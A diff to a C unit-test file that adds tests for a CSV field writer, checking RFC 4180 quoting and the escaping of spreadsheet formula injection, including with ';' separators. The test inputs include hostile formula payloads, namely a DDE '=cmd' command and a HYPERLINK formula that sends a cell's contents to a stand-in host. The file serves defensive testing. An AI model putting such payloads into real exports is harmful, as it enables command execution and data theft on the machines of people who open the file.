@@ -196,7 +196,7 @@ static void test_summary(void **state)
 	text = capture(write_summary, &w);
 	assert_string_equal(text,
 			    "day,attempts,passed,failed,abandoned,reused,yield,failures\r\n"
-			    "2026-01-01,5,2,3,0,0,0.4000,PROTO_TIMEOUT=2;CSR_SIGNATURE=1\r\n"
+			    "2026-01-01,5,2,3,0,0,0.4000,\"PROTO_TIMEOUT=2;CSR_SIGNATURE=1\"\r\n"
 			    "2026-01-02,2,1,0,1,1,1.0000,\r\n");
 	free(text);
 	w.jsonl = 1;
@@ -469,11 +469,74 @@ static void test_job_report(void **state)
 	OPENSSL_free(auth2);
 }
 
+/* st_csv_field: RFC 4180 quoting, and no cell a spreadsheet would run as a formula, whether
+ * its separator is ',' or ';' (the attack of a board that names its firmware "=cmd|..."). */
+static void test_csv_field(void **state)
+{
+	static const struct {
+		const char *in, *out;
+	} cases[] = {
+		{ NULL, "" },
+		{ "", "" },
+		{ "plain", "plain" },
+		{ "a,b", "\"a,b\"" },
+		{ "say \"hi\"", "\"say \"\"hi\"\"\"" },
+		{ "two\r\nlines", "\"two\r\nlines\"" },
+		/* Numbers and a sign alone stay as they are: "-" is the exports' absent time. */
+		{ "-", "-" },
+		{ "+", "+" },
+		{ "-12", "-12" },
+		{ "+3.25", "+3.25" },
+		{ "0.5000", "0.5000" },
+		{ "2026-12-08T00:00:00Z", "2026-12-08T00:00:00Z" },
+		{ "SN10-0001", "SN10-0001" },
+		/* What would start a formula. */
+		{ "=1+1", "\"'=1+1\"" },
+		{ "=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\"" },
+		{ "=HYPERLINK(\"http://x.example/\"&A1,\"open\")",
+		  "\"'=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"open\"\")\"" },
+		{ "@SUM(A1)", "\"'@SUM(A1)\"" },
+		{ "+1+2", "\"'+1+2\"" },
+		{ "-2+3", "\"'-2+3\"" },
+		{ "-1.", "-1." },
+		{ "+.5", "\"'+.5\"" },
+		{ "-x", "\"'-x\"" },
+		{ "\t=1", "\"'\t=1\"" },
+		{ "\r=1", "\"'\r=1\"" },
+		/* After a ';', where a locale's lists are separated by it. */
+		{ "a;b", "\"a;b\"" },
+		{ "fw;=1+1", "\"fw;'=1+1\"" },
+		{ "fw;-5;@x;+", "\"fw;-5;'@x;+\"" },
+		{ "x;\"=1+1\"", "\"x;'\"\"=1+1\"\"\"" },
+		{ "=a;=b", "\"'=a;'=b\"" },
+		{ "a;", "\"a;\"" },
+		{ "REASON_A=2;REASON_B=1", "\"REASON_A=2;REASON_B=1\"" },
+	};
+	(void)state;
+
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		char *buf = NULL, want[256];
+		size_t len = 0;
+		FILE *f = open_memstream(&buf, &len);
+
+		assert_non_null(f);
+		st_csv_field(f, cases[i].in, 0);
+		st_csv_field(f, cases[i].in, 1);
+		assert_int_equal(fclose(f), 0);
+		snprintf(want, sizeof(want), "%s,%s\r\n", cases[i].out, cases[i].out);
+		if (strcmp(buf, want) != 0)
+			fail_msg("case %zu: \"%s\" written as \"%s\", not \"%s\"", i,
+				 cases[i].in ? cases[i].in : "(null)", buf, want);
+		free(buf);
+	}
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_summary),
 		cmocka_unit_test(test_job_report),
+		cmocka_unit_test(test_csv_field),
 	};
 
 	return cmocka_run_group_tests(tests, setup, teardown);
